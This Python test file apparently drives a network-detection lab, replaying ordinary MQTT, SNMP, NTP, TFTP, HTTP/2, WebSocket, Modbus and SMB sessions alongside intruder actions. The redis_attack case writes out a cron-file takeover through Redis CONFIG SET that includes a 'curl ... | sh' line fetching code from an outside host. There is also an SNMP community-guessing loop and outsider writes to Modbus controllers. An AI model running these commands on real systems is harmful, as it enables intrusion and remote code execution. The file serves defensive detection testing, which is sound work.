"""Ordinary sessions of further protocols, each with what an intruder does with the same service."""
import webserver
from cases import case

QUIET = ["No alert of level YELLOW or above: this is ordinary use."]


@case("mqtt_session", ["mosquitto", "mosquitto-clients"], ["Nothing above a notice that a password crossed the wire in clear."])
def mqtt_session(lab):
    """MQTT with a real broker (mosquitto): subscribe, publish with QoS 0, 1 and 2, a retained message, versions 3.1.1 and 5, a refused login."""
    lab.edge(inside=True)
    t = lab.tmp
    lab.quiet("sk-s", f"mosquitto_passwd -b -c {t}/mqtt.pw sensor Spring-2026; chmod 644 {t}/mqtt.pw")
    lab.spawn("sk-s", f"mosquitto -c {lab.write('mosquitto.conf', f'listener 1883 10.20.0.80{chr(10)}password_file {t}/mqtt.pw{chr(10)}allow_anonymous false{chr(10)}')}", wait_port=1883)
    lab.capture(dev="lan")
    who = "-h 10.20.0.80 -u sensor -P Spring-2026"
    child = lab.spawn("sk-i", f"mosquitto_sub {who} -i display -q 2 -t 'shop/#'", wait=0.5)
    for options in ("-q 0 -t shop/temp -m 21.5", "-q 1 -t shop/temp -m 21.6", "-q 2 -V mqttv5 -t shop/door -m open", "-r -t shop/state -m ready", "-V mqttv5 -D publish user-property a b -t shop/x -m y"):
        lab.run("sk-i", f"mosquitto_pub {who} {options}")
    lab.run("sk-i", "mosquitto_pub -h 10.20.0.80 -u sensor -P wrong -t shop/x -m y")
    lab.stop(child)


@case("snmp_session", ["snmp", "snmpd"], ["The community `public` in clear may be noticed (policy).", "The guessed communities may fire (brute force, later): ten names, one is right."])
def snmp_session(lab):
    """SNMP with a real agent (snmpd): get, walk and bulk with version 1, 2c and 3, then ten guessed communities."""
    lab.edge(inside=True)
    conf = lab.write("snmpd.conf", "agentAddress udp:10.20.0.80:161\nrocommunity public 10.30.0.0/24\nsysName till-server\nsysLocation shop\ncreateUser watcher SHA Spring-2026 AES Spring-2026\nrouser watcher priv\n")
    lab.spawn("sk-s", f"env SNMP_PERSISTENT_DIR={lab.tmp}/snmp snmpd -f -Lo -C -c {conf}", wait_port=161, udp=True, wait=0.5)
    lab.capture(dev="lan")
    lab.run("sk-i", "snmpget -v1 -c public 10.20.0.80 1.3.6.1.2.1.1.5.0; snmpwalk -v2c -c public 10.20.0.80 1.3.6.1.2.1.1; snmpbulkget -v2c -c public 10.20.0.80 1.3.6.1.2.1.2.2")
    lab.run("sk-i", "snmpget -v3 -l authPriv -u watcher -a SHA -A Spring-2026 -x AES -X Spring-2026 10.20.0.80 1.3.6.1.2.1.1.6.0")
    lab.run("sk-i", "for c in private admin cisco manager router secret monitor write test public; do snmpget -v2c -r 0 -t 0.3 -c $c 10.20.0.80 1.3.6.1.2.1.1.1.0; done", timeout=20)


@case("ntp_session", ["chrony"], QUIET)
def ntp_session(lab):
    """NTP: a client asks a server for the time a few times (chrony on both sides; nobody's clock is set)."""
    lab.edge(inside=True)
    server = lab.write("ntp-server.conf", f"local stratum 3\nallow all\nbindaddress 10.20.0.80\ncmdport 0\npidfile {lab.tmp}/chronyd.pid\nbindcmdaddress /\n")
    lab.spawn("sk-s", f"chronyd -d -x -u root -f {server}", wait_port=123, udp=True, wait=0.5)
    lab.capture(dev="lan")
    lab.run("sk-i", f"chronyd -Q -t 5 -u root -f /dev/null 'cmdport 0' 'pidfile {lab.tmp}/q.pid' 'server 10.20.0.80 iburst'", timeout=15)


@case("tftp_session", ["dnsmasq", "curl"], ["TFTP in itself may be noticed (policy); nothing above that."])
def tftp_session(lab):
    """TFTP: an inside host reads two files, with and without options, and asks for one that is not there (dnsmasq, curl)."""
    lab.edge(inside=True)
    lab.write("tftp/switch.conf", "hostname switch-1\n" * 90)
    lab.write("tftp/boot.img", bytes(range(256)) * 12)
    conf = lab.write("tftp.conf", f"port=0\nno-daemon\nuser=root\nlisten-address=10.20.0.80\nenable-tftp\ntftp-root={lab.tmp}/tftp\n")
    lab.spawn("sk-s", f"dnsmasq -k -C {conf}", wait_port=69, udp=True)
    lab.capture(dev="lan")
    lab.run("sk-i", "curl -s -m 5 -o /dev/null tftp://10.20.0.80/switch.conf; curl -s -m 5 -o /dev/null --tftp-blksize 1024 tftp://10.20.0.80/boot.img; curl -s -m 5 -o /dev/null --tftp-no-options tftp://10.20.0.80/boot.img; curl -s -m 5 -o /dev/null tftp://10.20.0.80/missing")


@case("http2_browse", ["nghttp2-server", "nghttp2-client", "curl"], QUIET)
def http2_browse(lab):
    """HTTP/2 without TLS: several streams on one connection, a POST, the upgrade from HTTP/1.1, and one with prior knowledge (nghttpd; nghttp, curl)."""
    lab.edge()
    webserver.pages(lab)
    lab.spawn("sk-s", f"nghttpd --no-tls -a 10.20.0.80 -d {lab.tmp}/www 8080", wait_port=8080)
    lab.capture()
    site = "http://10.20.0.80:8080"
    lab.run("sk-c", f"nghttp -n {site}/index.html {site}/site.css {site}/app.js {site}/robots.txt {site}/missing")
    lab.run("sk-c", f"nghttp -n -u {site}/docs/terms.txt; nghttp -n -d {lab.tmp}/www/docs/terms.txt {site}/echo")
    lab.run("sk-c", f"curl -s -m 5 --http2-prior-knowledge -o /dev/null {site}/docs/manual.txt; curl -s -m 5 --http2 -o /dev/null {site}/index.html")


SOCKET_SERVER = """
import asyncio, websockets
async def echo(ws, path=None):
    async for message in ws: await ws.send(message)
async def main():
    async with websockets.serve(echo, "10.20.0.80", 8080): await asyncio.Future()
asyncio.run(main())
"""
SOCKET_CLIENT = """
import asyncio, websockets
async def main():
    async with websockets.connect("ws://10.20.0.80:8080/prices?from=shop") as ws:
        for message in ("hello", "x" * 200, bytes(range(256)) * 4, "y" * 5000):
            await ws.send(message); await ws.recv()
        await ws.ping()
asyncio.run(main())
"""


@case("websocket_session", ["python3-websockets"], QUIET)
def websocket_session(lab):
    """A WebSocket: upgrade with compression offered, text and binary messages both ways, ping, close."""
    lab.edge()
    lab.spawn("sk-s", f"/usr/bin/python3 {lab.write('ws-server.py', SOCKET_SERVER)}", wait_port=8080)
    lab.capture()
    lab.run("sk-c", f"/usr/bin/python3 {lab.write('ws-client.py', SOCKET_CLIENT)}")


@case("redis_attack", ["redis-server"], ["A key store open to the outside, settings changed so that it would write a file into a place of the system: fires if a signature exists (unauthorized access)."])
def redis_attack(lab):
    """An open redis: ordinary SET and GET from inside, then an outsider asks INFO, changes the folder and the name of the file to those of a cron table (refused by the server, which protects these settings), stores a job line and saves."""
    lab.edge(inside=True)
    lab.quiet("sk-s", f"mkdir -p {lab.tmp}/redis")
    lab.spawn("sk-s", f"redis-server --bind 10.20.0.80 --port 6379 --protected-mode no --dir {lab.tmp}/redis --save ''", wait_port=6379)
    lab.capture()
    lab.run("sk-i", "redis-cli -h 10.20.0.80 SET basket:7 kettle; redis-cli -h 10.20.0.80 GET basket:7; redis-cli -h 10.20.0.80 INCR visits")
    lab.run("sk-c", "redis-cli -h 10.20.0.80 INFO server; redis-cli -h 10.20.0.80 CONFIG SET dir /var/spool/cron/; redis-cli -h 10.20.0.80 CONFIG SET dbfilename root; "
                    "redis-cli -h 10.20.0.80 SET x $'\\n* * * * * curl http://198.51.100.10/x.sh | sh\\n'; redis-cli -h 10.20.0.80 SLAVEOF 198.51.100.10 6380; redis-cli -h 10.20.0.80 SLAVEOF NO ONE; redis-cli -h 10.20.0.80 CONFIG GET dir")


MODBUS_SERVER = """
from pymodbus.datastore import ModbusSequentialDataBlock, ModbusServerContext, ModbusSlaveContext
from pymodbus.server import StartTcpServer
block = lambda: ModbusSequentialDataBlock(0, [17] * 100)
StartTcpServer(context=ModbusServerContext(slaves=ModbusSlaveContext(di=block(), co=block(), hr=block(), ir=block()), single=True), address=("10.20.0.80", 502))
"""
MODBUS_CLIENT = """
import sys
from pymodbus.client import ModbusTcpClient
c = ModbusTcpClient("10.20.0.80", 502); c.connect()
for i in range(3): c.read_holding_registers(0, 10, slave=1); c.read_coils(0, 16, slave=1)
if "write" in sys.argv: c.write_register(4, 9999, slave=1); c.write_coils(0, [True] * 8, slave=1); c.read_holding_registers(4, 1, slave=1); c.read_holding_registers(200, 50, slave=1)
c.close()
"""


@case("modbus_session", ["python3-pymodbus", "python3-serial", "python3-serial-asyncio"], ["Reading is quiet.", "Writing to a controller from an address that only outsiders have may fire (suspicious access), and the exception the server answers."])
def modbus_session(lab):
    """Modbus/TCP: a station inside reads registers; then an outsider writes a register and coils and asks for registers that do not exist."""
    lab.edge(inside=True)
    lab.spawn("sk-s", f"/usr/bin/python3 {lab.write('modbus-server.py', MODBUS_SERVER)}", wait_port=502)
    client = lab.write("modbus-client.py", MODBUS_CLIENT)
    lab.capture()
    lab.run("sk-i", f"/usr/bin/python3 {client} read")
    lab.run("sk-c", f"/usr/bin/python3 {client} write")


@case("smb_session", ["samba", "smbclient"], ["Nothing above GREEN for the session itself.", "One failed login is no brute force.", "A guest's look at the list of shares may be noticed."])
def smb_session(lab):
    """SMB with a real server (samba): list of shares, a login, a listing, one file each way, a rename and a delete, one wrong password; dialects SMB 2 and 3, and the old NT1."""
    lab.edge(inside=True)
    t = lab.tmp
    conf = lab.write("smb.conf", f"[global]\nworkgroup = SHOP\nnetbios name = FILES\nserver min protocol = NT1\nserver role = standalone server\nmap to guest = Bad User\ninterfaces = 10.20.0.80\nbind interfaces only = yes\nsmb ports = 445\n"
                     f"passdb backend = tdbsam:{t}/smb/passdb.tdb\nprivate dir = {t}/smb\nlock directory = {t}/smb\nstate directory = {t}/smb\ncache directory = {t}/smb\npid directory = {t}/smb\nncalrpc dir = {t}/smb/nc\nlog file = {t}/smb/log\ndisable spoolss = yes\nload printers = no\n"
                     f"[share]\npath = {t}/share\nread only = no\n[pub]\npath = {t}/share\nguest ok = yes\n")
    lab.quiet("sk-s", f"mkdir -p {t}/smb/nc {t}/share; echo prices > {t}/share/prices.txt; chown -R 2001:2001 {t}/share; printf 'Spring-2026\\nSpring-2026\\n' | smbpasswd -c {conf} -a -s alice")
    lab.spawn("sk-s", f"smbd -F --no-process-group -s {conf}", wait_port=445, wait=0.5)
    lab.write("upload.txt", "new prices\n" * 40)
    lab.capture(dev="lan")
    client = f"smbclient -s {conf} -p 445"
    lab.run("sk-i", f"{client} -N -L //10.20.0.80")
    lab.run("sk-i", f"{client} -U alice%Spring-2026 //10.20.0.80/share -c 'dir; get prices.txt /dev/null; put upload.txt; rename upload.txt new.txt; del new.txt'")
    lab.run("sk-i", f"{client} -m SMB2 -U alice%Spring-2026 //10.20.0.80/share -c 'dir; get prices.txt /dev/null'")
    lab.run("sk-i", f"{client} -m NT1 --option='client min protocol=NT1' -U alice%Spring-2026 //10.20.0.80/share -c 'dir; get prices.txt /dev/null'")
    lab.run("sk-i", f"{client} -U alice%sprnig //10.20.0.80/share -c dir")
